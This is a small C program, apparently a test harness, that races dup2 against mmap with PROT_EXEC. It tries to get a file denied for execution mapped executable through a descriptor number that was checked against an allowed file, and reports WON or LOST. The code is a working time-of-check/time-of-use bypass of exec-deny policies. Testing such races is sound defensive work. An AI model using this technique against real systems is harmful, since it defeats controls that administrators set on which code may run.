/*
 * race_mmap_exec DIR SECONDS: tries to map DIR/bad (denied for exec) executable through an mmap
 * judged on DIR/good. A second thread flips one fd number between the two files (dup2) while the
 * main thread maps that fd number with PROT_READ|PROT_EXEC; each mapping made is looked up in
 * /proc/self/maps. Prints "WON" (and exits 0) when the bad file got mapped executable, else
 * "LOST allowed=N denied=M" after SECONDS.
 */
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

enum { SLOT = 100 };
static int good_fd, bad_fd;
static volatile int stop;

static void *flipper(void *arg) {
  (void)arg;
  while (!stop) {
    dup2(good_fd, SLOT);
    dup2(bad_fd, SLOT);
  }
  return NULL;
}

static unsigned long inode_at(void *addr) {
  FILE *maps = fopen("/proc/self/maps", "r");
  if (maps == NULL) return 0;
  char line[4096];
  unsigned long found = 0;
  while (fgets(line, sizeof line, maps) != NULL) {
    unsigned long start, end, offset, ino;
    char perms[8], dev[16];
    if (sscanf(line, "%lx-%lx %7s %lx %15s %lu", &start, &end, perms, &offset, dev, &ino) != 6) continue;
    if ((unsigned long)addr >= start && (unsigned long)addr < end) {
      found = ino;
      break;
    }
  }
  fclose(maps);
  return found;
}

int main(int argc, char **argv) {
  if (argc != 3) return 2;
  char path[4096];
  snprintf(path, sizeof path, "%s/good", argv[1]);
  good_fd = open(path, O_RDONLY | O_CLOEXEC);
  snprintf(path, sizeof path, "%s/bad", argv[1]);
  bad_fd = open(path, O_RDONLY | O_CLOEXEC);
  if (good_fd < 0 || bad_fd < 0) return 2;
  struct stat bad;
  if (fstat(bad_fd, &bad) != 0) return 2;
  dup2(good_fd, SLOT);
  pthread_t thread;
  if (pthread_create(&thread, NULL, flipper, NULL) != 0) return 2;
  time_t end = time(NULL) + atoi(argv[2]);
  long allowed = 0, denied = 0;
  while (time(NULL) < end) {
    void *addr = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, SLOT, 0);
    if (addr == MAP_FAILED) {
      denied++;
      continue;
    }
    allowed++;
    unsigned long ino = inode_at(addr);
    munmap(addr, 4096);
    if (ino == (unsigned long)bad.st_ino) {
      stop = 1;
      printf("WON after allowed=%ld denied=%ld\n", allowed, denied);
      fflush(stdout);
      return 0;
    }
  }
  stop = 1;
  pthread_join(thread, NULL);
  printf("LOST allowed=%ld denied=%ld\n", allowed, denied);
  return 0;
}
